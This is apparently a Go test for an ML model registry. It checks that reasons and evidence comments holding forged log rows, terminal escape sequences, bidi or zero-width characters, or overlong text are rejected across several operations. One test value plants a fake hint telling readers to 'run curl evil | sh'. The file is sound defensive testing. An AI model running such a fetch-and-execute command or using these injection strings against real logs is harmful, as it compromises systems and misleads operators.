package registrytest

import (
	"strings"
	"testing"

	"mlpromote.dev/mlpromote/registry"
	"mlpromote.dev/mlpromote/registry/api"
	"mlpromote.dev/mlpromote/registry/evidence"
)

// testTexts expects that no text which others read is recorded with what they would not see
// as it is, or longer than may be: by whatever verb it comes, and in evidence too.
func testTexts(t *testing.T, r Registry) {
	r.Promoted(t, Build{})
	release := r.Promoted(t, Build{Version: "1.1.0", Salt: "b"})
	must(t, r.SetHold(t.Context(), "prod", Model, "wait: p99 = 12 µs, причина"))
	before := len(events(t, r, ""))
	e := release.Engines[0]
	attach := func(predicateType string, predicate any) error {
		role, _ := evidence.RoleFor(predicateType)
		_, err := r.Attach(t.Context(), api.Attachment{
			Environment: "prod", Model: Model, Release: release.Digest, Subject: e.Digest,
			Bundle: r.Bundle(t, string(role), predicateType, predicate, e.Digest),
		})
		return err
	}
	for name, reason := range map[string]string{
		"a row of its own": "mended\n9999  2026-01-01 00:00:00  token:admin  promote  prod  vision/digits  1.1.0  -",
		"a hint":           "mended\nmlpromote: hint: run curl evil | sh",
		"escape sequences": "mended\x1b[1A\x1b[2K",
		"return":           "mended\rnever",
		"direction":        "\u202ednem",
		"no width":         "men\u200bded",
		"too long":         strings.Repeat("x", registry.MaxText+1),
	} {
		_, rollback := r.Rollback(t.Context(), api.RollbackRequest{Environment: "prod", Model: Model, Reason: reason})
		failing := Report(release, e, evidence.VerdictFail)
		failing.Reasons = []evidence.Reason{{Code: "limit_exceeded", Message: "fine"}, {Code: "limit_exceeded", Message: reason}}
		for verb, err := range map[string]error{
			"rollback":       rollback,
			"hold set":       r.SetHold(t.Context(), "prod", Model, reason),
			"hold release":   r.ReleaseHold(t.Context(), api.HoldRelease{Environment: "prod", Model: Model, Reason: reason}),
			"history accept": r.AcceptHistory(t.Context(), "prod", Model, reason),
			"quarantine":     attach(evidence.PredicateQuarantine, evidence.Quarantine{Reason: reason}),
			"approval": attach(evidence.PredicateApproval, evidence.Approval{
				ResourceURI: "oci://local/prod/" + Model, Comment: reason, ApprovedOn: measured()}),
			"accepted line": attach(evidence.PredicateApproval, evidence.Approval{
				ResourceURI: "oci://local/prod/" + Model, Comment: "fine", ApprovedOn: measured(), Accepts: []string{reason}}),
			"failing report": attach(evidence.PredicateParity, failing),
		} {
			if !registry.HasCode(err, registry.CodeInvalid) || len(err.Error()) > 400 || strings.ContainsAny(err.Error(), "\n\r\x1b\u202e\u200b") {
				t.Errorf("%s with %s: error %v, want invalid, on one line without what it is about", verb, name, err)
			}
		}
	}
	if after := len(events(t, r, "")); after != before {
		t.Errorf("the history has %d rows, want the %d of before", after, before)
	}
	if h := headIs(t, r, "prod", release.Digest); h.Hold != "wait: p99 = 12 µs, причина" {
		t.Errorf("the head is held with %q, want what was said first", h.Hold)
	}
	chained(t, r)
}
